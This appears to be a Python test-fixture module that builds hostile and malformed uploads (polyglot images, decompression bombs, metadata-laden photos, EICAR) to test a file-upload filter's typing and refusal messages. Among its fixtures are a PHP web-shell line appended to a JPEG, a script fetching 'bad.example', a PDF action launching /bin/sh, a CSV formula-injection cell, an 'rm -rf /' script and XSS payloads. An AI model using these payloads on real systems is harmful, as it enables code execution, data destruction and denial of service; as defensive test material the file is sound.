"""Files as an enemy makes them, made here: name -> (bytes, the name it comes with)."""

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image, PngImagePlugin

CANARY = b"CANARY-7f3a-do-not-show"
EICAR = base64.b64decode(
    b"WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo="
)
SCRIPT = b"<script>fetch('//bad.example')</script>"


def png(width: int = 60, height: int = 40, **save: object) -> bytes:
    return _saved(Image.new("RGB", (width, height), "teal"), "PNG", **save)


def _saved(image: Image.Image, form: str, **save: object) -> bytes:
    out = io.BytesIO()
    image.save(out, form, **save)
    return out.getvalue()


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_declaring(width: int, height: int, rows: bytes = b"") -> bytes:
    """A PNG that says it is this large, whatever it holds."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = _chunk(b"IDAT", zlib.compress(rows, 9))
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + data + _chunk(b"IEND", b"")


def zip_of(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def office(part: str, *more: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in ("[Content_Types].xml", part, *more):
            archive.writestr(name, b"<x/>")
    return out.getvalue()


def pdf(
    *,
    pages: int = 1,
    box: str = "0 0 200 100",
    catalog: str = "",
    more: bytes = b"",
    text: str = "Hello, hello",
    drawing: bytes = b"",
) -> bytes:
    """A PDF written by hand: one line of text on each page, and what an enemy adds to its catalogue."""
    stream = zlib.compress(drawing or f"BT /F1 18 Tf 10 50 Td ({text}) Tj ET".encode(), 9)
    objects = [
        f"<</Type/Catalog/Pages 2 0 R{catalog}>>".encode(),
        f"<</Type/Pages/Count {pages}/Kids[{' '.join(f'{5 + n} 0 R' for n in range(pages))}]>>".encode(),
        b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(stream), stream),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *[
            f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents 3 0 R/Resources<</Font<</F1 4 0 R>>>>>>".encode()
            for _ in range(pages)
        ],
    ]
    out, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj" % number + content + b"endobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    end = b"xref\n0 %d\n0000000000 65535 f \n%strailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n"
    return out + end % (size, table, size, len(out)) + more


def jpeg_with_secrets() -> bytes:
    """A photograph that says where it was taken, on its side, with words in its comment."""
    image = Image.new("RGB", (400, 200), "navy")
    exif = Image.Exif()
    exif[0x0112], exif[0x010E], exif[0x9286] = 6, CANARY.decode(), CANARY.decode()
    exif.get_ifd(0x8825).update({1: "N", 2: (51.0, 30.0, 0.0), 3: "W", 4: (0.0, 7.0, 0.0)})
    return _saved(image, "JPEG", exif=exif, comment=CANARY, icc_profile=CANARY * 20)


def png_with_secrets() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", CANARY.decode())
    info.add_itxt("XML:com.adobe.xmp", CANARY.decode())
    return png(pnginfo=info)


def text_bomb_png() -> bytes:
    """A comment that unpacks to 60 MB."""
    packed = b"c\x00\x00" + zlib.compress(b"\x00" * (60 << 20), 9)
    whole = png()
    return whole[:33] + _chunk(b"zTXt", packed) + whole[33:]


def gif_script() -> bytes:
    return b"GIF89a/*" + b"\x00" * 20 + b"*/=1;alert(document.domain)//"


def long_gif() -> bytes:
    frames = [Image.new("P", (50, 50), n) for n in range(200)]
    return _saved(frames[0], "GIF", save_all=True, append_images=frames[1:])


def nested_pdf() -> bytes:
    return b"%PDF-1.4\n1 0 obj" + b"<</A" * 50_000 + b">>" * 50_000 + b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF"


def pdf_of_much_drawing() -> bytes:
    """A stream of 300 kB that unpacks to 300 MB of drawing."""
    return pdf(drawing=b"0 0 m 9 9 l S\n" * (20 << 20))


EML = (
    b"From: Bank <no-reply@bank.example>\r\nTo: you@example.org\r\nSubject: =?utf-8?b?WW91ciBhY2NvdW50?=\r\n"
    b"Date: Tue, 3 Nov 2026 09:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n"
    b"<p>Ring 07700 900123</p>" + SCRIPT
)
# Taken and harmless: what it must be typed as.
TAKEN: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "png and zip": (lambda: png() + zip_of(evil=b"MZ"), "a.png", "image/png"),
    "png and html": (lambda: png() + SCRIPT, "a.html", "image/png"),
    "png named pdf": (png, "a.pdf", "image/png"),
    "png without end": (lambda: png()[:-20], "a.png", "image/png"),
    "png cut short": (lambda: png(600, 400)[:60], "a.png", "image/png"),
    "png of its first bytes": (lambda: png()[:8], "a.png", "image/png"),
    "png of 50,000 x 50,000": (lambda: png_declaring(50_000, 50_000), "a.png", "image/png"),
    "png of 2,147,483,647 x 1": (lambda: png_declaring(2**31 - 1, 1), "a.png", "image/png"),
    "png of 6,000 x 6,000 zeros": (lambda: png_declaring(6_000, 6_000, bytes(6_000 * 18_001)), "a.png", "image/png"),
    "png of 0 x 0": (lambda: png_declaring(0, 0), "a.png", "image/png"),
    "png of 1 x 30,000": (lambda: png(1, 30_000), "a.png", "image/png"),
    "png of 30,000 x 1": (lambda: png(30_000, 1), "a.png", "image/png"),
    "png with a bomb of a comment": (text_bomb_png, "a.png", "image/png"),
    "png with secrets": (png_with_secrets, "a.png", "image/png"),
    "jpeg with secrets": (jpeg_with_secrets, "a.jpg", "image/jpeg"),
    "jpeg cut short": (lambda: jpeg_with_secrets()[:-200], "a.jpg", "image/jpeg"),
    "jpeg and php": (lambda: jpeg_with_secrets() + b"<?php system($_GET[0]); ?>", "a.php.jpg", "image/jpeg"),
    "jpeg of its first bytes": (lambda: b"\xff\xd8\xff\xe0", "a.jpg", "image/jpeg"),
    "gif and script": (gif_script, "a.js", "image/gif"),
    "gif of 200 frames": (long_gif, "a.gif", "image/gif"),
    "gif of its first bytes": (lambda: b"GIF89a", "a.gif", "image/gif"),
    "webp of its first bytes": (lambda: b"RIFF\x10\x00\x00\x00WEBPVP8 ", "a.webp", "image/webp"),
    "pdf": (pdf, "a.pdf", "application/pdf"),
    "pdf with javascript": (
        lambda: pdf(catalog="/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), "a.pdf", "application/pdf"),
    "pdf that opens a program": (
        lambda: pdf(catalog="/OpenAction<</S/Launch/F(/bin/sh)>>"), "a.pdf", "application/pdf"),
    "pdf that calls home": (
        lambda: pdf(catalog="/OpenAction<</S/URI/URI(http://127.0.0.1:9/)>>"), "a.pdf", "application/pdf"),
    "pdf and zip": (lambda: pdf(more=zip_of(evil=EICAR)), "a.pdf", "application/pdf"),
    "pdf named png": (pdf, "a.png", "application/pdf"),
    "pdf cut short": (lambda: pdf()[:100], "a.pdf", "application/pdf"),
    "pdf of its first bytes": (lambda: b"%PDF-1.7", "a.pdf", "application/pdf"),
    "pdf of 300 pages": (lambda: pdf(pages=300), "a.pdf", "application/pdf"),
    "pdf of a huge page": (lambda: pdf(box="0 0 1e9 1e9"), "a.pdf", "application/pdf"),
    "pdf of a page without size": (lambda: pdf(box="0 0 0 0"), "a.pdf", "application/pdf"),
    "pdf of a very thin page": (lambda: pdf(box="0 0 1 100000"), "a.pdf", "application/pdf"),
    "pdf nested deep": (nested_pdf, "a.pdf", "application/pdf"),
    "pdf of much drawing": (pdf_of_much_drawing, "a.pdf", "application/pdf"),
    "e-mail with script": (lambda: EML, "a.eml", "message/rfc822"),
    "e-mail of nothing but headers": (lambda: b"From: a\nTo: b\n" + b"X: y\n" * 50_000, "a.eml", "message/rfc822"),
    "e-mail of parts in parts": (
        lambda: b"From: a\nTo: b\n" + b"Content-Type: multipart/mixed; boundary=x\n\n--x\n" * 5_000,
        "a.eml", "message/rfc822"),
    "text with NUL at its end": (lambda: b"hello" * 20_000 + b"\x00", "a.txt", "text/plain"),
    "text that is one line of 5 MB": (lambda: b"a" * (5 << 20), "a.txt", "text/plain"),
    "text in UTF-16": (lambda: "Ring 07700 900123".encode("utf-16"), "a.txt", "text/plain"),
    "text in no encoding": (lambda: bytes(range(128, 256)) * 50, "a.txt", "text/plain"),
    "text that begins like a program": (lambda: b"MZ Motors took my money", "a.txt", "text/plain"),
    "table of formulas": (lambda: b"a,b\n=cmd|'/c calc'!A0,@SUM(1)\n", "a.csv", "text/csv"),
    "word document": (
        lambda: office("word/document.xml"), "a.docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "workbook": (
        lambda: office("xl/workbook.xml"), "a.xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
}  # fmt: skip
# Not taken from the public: what the refusal must say to do.
REFUSED: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "0 bytes": (lambda: b"", "a.png", "empty"),
    "svg with script": (lambda: b"<svg xmlns='http://www.w3.org'>" + SCRIPT + b"</svg>", "a.svg", "screenshot"),
    "svg named png": (lambda: b"<?xml version='1.0'?>\n<!-- x -->\n<svg/>", "a.png", "screenshot"),
    "svg in UTF-16": (lambda: "<svg onload='alert(1)'/>".encode("utf-16"), "a.png", "screenshot"),
    "html named png": (lambda: b"<!DOCTYPE html>" + SCRIPT, "a.png", "screenshot"),
    "html after spaces": (lambda: b"\xef\xbb\xbf \r\n\t" + SCRIPT, "a.txt", "screenshot"),
    "html and pdf": (lambda: b"<html>" + pdf(), "a.pdf", "screenshot"),
    "eicar in a zip": (lambda: zip_of(eicar=EICAR), "a.zip", "one by one"),
    "zip bomb": (lambda: zip_of(zeros=bytes(30 << 20)), "a.zip", "one by one"),
    "zip named png": (lambda: zip_of(a=b"b"), "a.png", "one by one"),
    "zip named docx": (lambda: zip_of(a=b"b"), "a.docx", "one by one"),
    "macros": (lambda: office("word/document.xml", "word/vbaProject.bin"), "a.docx", "as PDF"),
    "old office": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "a.doc", "as PDF"),
    "gzip": (lambda: b"\x1f\x8b\x08" + bytes(30), "a.gz", "one by one"),
    "windows program": (lambda: b"MZ\x90\x00" + bytes(60), "a.jpg", "program"),
    "linux program": (lambda: b"\x7fELF" + bytes(60), "a.jpg", "program"),
    "shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", "a.txt", "program"),
    "shortcut": (lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60), "a.lnk", "program"),
    "heic": (lambda: b"\x00\x00\x00\x18ftypheic" + bytes(60), "a.heic", "JPEG"),
    "video": (lambda: b"\x00\x00\x00\x18ftypisom" + bytes(60), "a.mp4", "Tell us"),
    "tiff": (lambda: _saved(Image.new("RGB", (9, 9)), "TIFF"), "a.tif", "screenshot"),
    "bitmap": (lambda: _saved(Image.new("RGB", (9, 9)), "BMP"), "a.bmp", "screenshot"),
    "random bytes": (lambda: bytes((n * 167 + 13) % 256 for n in range(999)), "a.bin", "Send a picture"),
    "one NUL": (lambda: b"\x00", "a.txt", "Send a picture"),
}  # fmt: skip
HARMFUL: dict[str, Callable[[], bytes]] = {
    "eicar": lambda: EICAR,
    "eicar with spaces behind": lambda: EICAR + b"  \r\n",
    "eicar behind a picture": lambda: png() + EICAR,
    "eicar stored in a document": lambda: office("word/document.xml") + EICAR,
}
